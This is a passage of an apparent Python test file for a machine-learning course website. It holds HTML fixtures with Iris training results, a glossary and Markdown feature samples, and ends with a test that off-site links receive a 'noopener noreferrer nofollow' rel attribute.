<div class="language-text page-output highlight"><span class="filename">Output</span><pre><span></span><code>training (90, 4), validation (30, 4), test (30, 4)
flowers per species in the training set: [30, 30, 30]
</code></pre></div>
<p><code>split</code> keeps <span class="computed" data-name="n_iris_train">90</span> flowers for training, <span class="computed" data-name="n_iris_val">30</span> for validation
and <span class="computed" data-name="n_iris_test">30</span> for testing, with the same number of each species in every part.
<code>scale_splits</code> then maps each measurement linearly into [-1, 1]. It takes the minimum
and maximum from the training set only, and applies the same numbers to the other two:
if the validation or test flowers had a say in the scaling, they would no longer be
data the model has never seen.</p>
<figure class="page-figure"><img alt="Loss and accuracy per epoch on Iris for the single-layer and the multi-layer network, training solid and validation dashed, with a dotted line at each run's best epoch" height="380" loading="lazy" src="../figures/lab-iris-curves.svg" width="1000"/></figure>
<table>
<thead>
<tr>
<th>Problem</th>
<th>Network</th>
<th style="text-align: right;">Parameters</th>
<th style="text-align: right;">Epochs run</th>
<th style="text-align: right;">Best epoch</th>
<th style="text-align: right;">Training accuracy</th>
<th style="text-align: right;">Validation accuracy</th>
<th style="text-align: right;">Test accuracy</th>
</tr>
</thead>
<tbody>
<tr>
<td>Iris</td>
<td>single-layer</td>
<td style="text-align: right;"><span class="computed" data-name="iris_single_params">15</span></td>
<td style="text-align: right;"><span class="computed" data-name="iris_single_epochs">200</span></td>
<td style="text-align: right;"><span class="computed" data-name="iris_single_best">200</span></td>
<td style="text-align: right;"><span class="computed" data-format=".3f" data-name="iris_single_train">0.956</span></td>
<td style="text-align: right;"><span class="computed" data-format=".3f" data-name="iris_single_val">0.967</span></td>
<td style="text-align: right;"><span class="computed" data-format=".3f" data-name="iris_single_test">0.900</span></td>
</tr>
<tr>
<td>Iris</td>
<td>multi-layer</td>
<td style="text-align: right;"><span class="computed" data-name="iris_multi_params">2499</span></td>
<td style="text-align: right;"><span class="computed" data-name="iris_multi_epochs">50</span></td>
<td style="text-align: right;"><span class="computed" data-name="iris_multi_best">30</span></td>
<td style="text-align: right;"><span class="computed" data-format=".3f" data-name="iris_multi_train">0.978</span></td>
<td style="text-align: right;"><span class="computed" data-format=".3f" data-name="iris_multi_val">0.967</span></td>
<td style="text-align: right;"><span class="computed" data-format=".3f" data-name="iris_multi_test">0.933</span></td>
</tr>


</tbody>
</table>
<div class="language-console highlight"><pre><span></span><code><span class="gp">$ </span>pip install <span class="s2">"trainlab[mnist]"</span>
</code></pre></div>
<p class="last-run"><small>The code on this page was last run by the site build on 2026-12-06, with PyTorch 2.13.0 on cpu.</small></p>
"""

OTHER_PAGES = r"""
<details class="example">
<summary>The device, the spirals and the network</summary>
<div class="language-python highlight"><pre><span></span><code><span class="kn">import</span> <span class="nn">math</span>

</code></pre></div>
</details>
<div class="admonition tip">
<p class="admonition-title">If in doubt, use Adam</p>
<p>Adam works well on many problems with its default settings, which is why it is the
usual first choice. But a comparison like this one depends on the learning rates:
a well-tuned SGD with momentum is often as good, and sometimes generalises better.</p>
</div>
<div class="admonition question">
<p class="admonition-title">Was that luck?</p>
<p>One set of seven points proves little. So we repeat the experiment with fresh noise
many times and count how often the polynomial does worse on new data:</p>
<div class="language-python highlight"><pre><span></span><code>n_draws = <span class="mi">1000</span>  <span class="c1"># fresh noise each time: is the result above luck?</span>
poly_worse = <span class="mi">0</span>
</code></pre></div>
<div class="language-text page-output highlight"><span class="filename">Output</span><pre><span></span><code>the polynomial validated worse than the line in 97.7% of the draws
</code></pre></div>
<p>In <span class="computed" data-format=".1%" data-name="share_poly_worse">97.7%</span> of <span class="computed" data-name="n_draws">1000</span> draws, the polynomial had the higher
validation error. Almost always, then, but not always: now and then the noise happens
to bend the points in a way that suits a wiggly curve.</p>
</div>
<dl>
<dt id="training-set">Training set</dt>
<dd>The samples the model learns from: the gradients are computed on them.</dd>
<dt id="validation-set">Validation set</dt>
<dd>Samples kept out of training and used to watch it and to make choices: comparing
models and <a href="#hyperparameter">hyperparameters</a>, and deciding when to stop. Because
these choices are fitted to it, its score is slightly optimistic.</dd>
<dt id="test-set">Test set</dt>
<dd>Samples used once, at the very end, to estimate how the chosen model does on data it
has never seen. Nothing about the model may be chosen with it, or the estimate is no
longer honest. See <a href="../lab/#results">the lab</a>.</dd>
<dt id="accuracy">Accuracy</dt>
<dd>The fraction of samples whose predicted class, the one with the largest score, is
the correct one.</dd>
<dt id="learning-curve">Learning curve</dt>
<dd>A plot of the loss or the accuracy after each epoch, on the training set and on the
validation set. The gap between the two curves, and where the validation curve turns,
show <a href="#overfitting">overfitting</a> as it happens. See <a href="../lab/">the lab</a>.</dd>
<dt id="iris">Iris</dt>
<dd>A data set of 150 iris flowers of three species, each described by four
measurements in centimetres: the length and width of the sepal and of the petal.
scikit-learn includes it. See <a href="../lab/#iris-flowers">the lab</a>.</dd>
<dt id="mnist">MNIST</dt>
<dd>A data set of 70,000 handwritten digits, 60,000 for training and 10,000 for
testing, each a 28 × 28 grey-scale image. The lab uses scikit-learn's smaller set of
8 × 8 digits, which needs no download, and shows how to switch to MNIST. See <a href="../lab/#running-on-real-mnist">the
lab</a>.</dd>
</dl>
<p class="benchmark-sweep">trainlab.fit alone at other batch sizes, with the same data and number of epochs. The ideal is the same at every batch size; the last column shows how close the matrix products of one step come to it on their own, with nothing else in the step.</p>
<ul class="benchmark-targets"><li>Target met against textbook loop: trainlab.fit should be at least 5.0× as fast, and is 12.27×.</li><li>Target missed against ideal: trainlab.fit should be at least 0.33× as fast, but is 0.0010×.</li></ul>
<p class="benchmark-setup">mkdocs build --strict on 2 CPU cores, 2026-11-23.</p>
<table><thead><tr><th>Build</th><th class="numeric">Seconds</th></tr></thead><tbody><tr><td>cold, five languages (every page's program runs)</td><td class="numeric">134.8</td></tr><tr><td>warm, five languages (nothing changed)</td><td class="numeric">13.8</td></tr><tr><td>warm, English only (COURSE_LANGUAGE=en)</td><td class="numeric">4.6</td></tr></tbody></table>
"""

MATERIAL_FEATURES = r"""
<h1 id="features">Features no English page uses yet<a class="headerlink" href="#features" title="Permanent link">&para;</a></h1>
<p>The site's Markdown allows them, so a translation may produce them: an <abbr title="HyperText Markup Language">HTML</abbr><sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup> abbreviation
and inline code <code class="language-python highlight"><span class="nb">print</span><span class="p">(</span><span class="mi">1</span><span class="p">)</span></code>.</p>
<div class="tabbed-set tabbed-alternate" data-tabs="1:2"><input checked="checked" id="__tabbed_1_1" name="__tabbed_1" type="radio" /><input id="__tabbed_1_2" name="__tabbed_1" type="radio" /><div class="tabbed-labels"><label for="__tabbed_1_1">CPU</label><label for="__tabbed_1_2">GPU</label></div>
<div class="tabbed-content">
<div class="tabbed-block">
<p>Tab one.</p>
</div>
<div class="tabbed-block">
<p>Tab two.</p>
</div>
</div>
</div>
<div class="language-python highlight"><span class="filename">train.py</span><pre><span></span><code><span class="n">x</span> <span class="o">=</span> <span class="mi">1</span>  <span class="c1"># (1)!</span>
</code></pre></div>
<ol>
<li>A code annotation.</li>
</ol>
<table>
<thead>
<tr>
<th style="text-align: left;">Left</th>
<th style="text-align: center;">Centre</th>
<th style="text-align: right;">Right</th>
</tr>
</thead>
<tbody>
<tr>
<td style="text-align: left;">a</td>
<td style="text-align: center;">b</td>
<td style="text-align: right;">1.0</td>
</tr>
</tbody>
</table>
<dl>
<dt>Term</dt>
<dd>Definition</dd>
</dl>
<blockquote>
<p>A quotation with <strong>strong</strong>, <em>emphasis</em> and a line<br>break.</p>
</blockquote>
<details class="tip" open="open">
<summary>Open by default</summary>
<p>Body</p>
</details>
<div class="admonition warning">
<p class="admonition-title">This section has changed in English since it was translated</p>
<p>Read the <a href="../../frameworks/#tensors">English version</a> for what changed.</p>
</div>
<div class="footnote">
<hr />
<ol>
<li id="fn:1">
<p>A footnote.&#160;<a class="footnote-backref" href="#fnref:1" title="Jump back to footnote 1 in the text">&#8617;</a></p>
</li>
</ol>
</div>
"""

ENGLISH = {
    "formulas": FORMULAS,
    "notebook": NOTEBOOK,
    "dashboard": DASHBOARD,
    "figures-and-outputs": FIGURES_AND_OUTPUTS,
    "other-pages": OTHER_PAGES,
    "material-features": MATERIAL_FEATURES,
}


def test_an_english_link_to_another_host_gets_the_rel_a_translation_gets():
    """The lessons' Further reading links off the site: on English pages (not cleaned)
    they get the same rel that clean_html gives a translation's, so cleaning an English
    page still changes nothing."""
    from sitebuild.sanitize import off_site_rel

    content = (
        '<p><a href="https://arxiv.org/abs/1502.03167">BN</a> <a href="../glossary/#x">g</a> '
        '<a href="#here" title="t">h</a></p>'
    )
    marked = off_site_rel(content)
    assert marked == content.replace(
        '1502.03167">', '1502.03167" rel="noopener noreferrer nofollow">'
    )
    assert clean_html(marked) == marked
    assert off_site_rel(marked) == marked  # a link with a rel keeps its own
